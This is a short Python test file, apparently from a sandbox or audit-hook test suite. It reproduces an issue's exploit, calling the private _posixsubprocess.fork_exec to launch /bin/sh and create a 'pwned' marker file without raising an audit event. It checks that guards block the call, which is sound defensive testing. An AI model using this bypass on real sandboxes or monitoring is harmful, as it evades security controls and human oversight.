"""The issue's exploit: _posixsubprocess.fork_exec raises no audit event, so no Python guard sees it."""

# guards: forbidden_syscall
# kernel: forbidden_syscall
import _posixsubprocess
import os

args = [b"/bin/sh", b"-c", b"touch @WATCHED@/pwned"]
r, w = os.pipe()
pid = _posixsubprocess.fork_exec(
    args,
    [b"/bin/sh"],
    True,
    (),
    None,
    None,
    -1,
    -1,
    -1,
    -1,
    -1,
    -1,
    r,
    w,
    True,
    False,
    0,
    None,
    None,
    None,
    -1,
    None,
    False,
)
os.waitpid(pid, 0)
